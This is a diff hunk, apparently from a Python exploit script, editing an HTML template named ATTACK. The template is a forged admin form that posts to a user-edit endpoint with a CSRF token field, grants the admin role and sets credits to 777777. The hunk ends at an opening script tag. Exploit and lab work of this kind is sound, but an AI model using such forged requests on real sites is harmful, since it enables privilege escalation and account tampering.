@@ -112,7 +112,7 @@ ATTACK = """<!doctype html>
 <form id="forge" method="POST" enctype="multipart/form-data" action="{app}/admin/user/edit?pk={pk}">
   <input type="hidden" name="csrftoken" id="csrftoken">
   <input name="email" value="{email}">
-  <input name="is_admin" value="on">
+  <input name="role" value="admin">
   <input name="credits" value="777777">
 </form>
 <script>
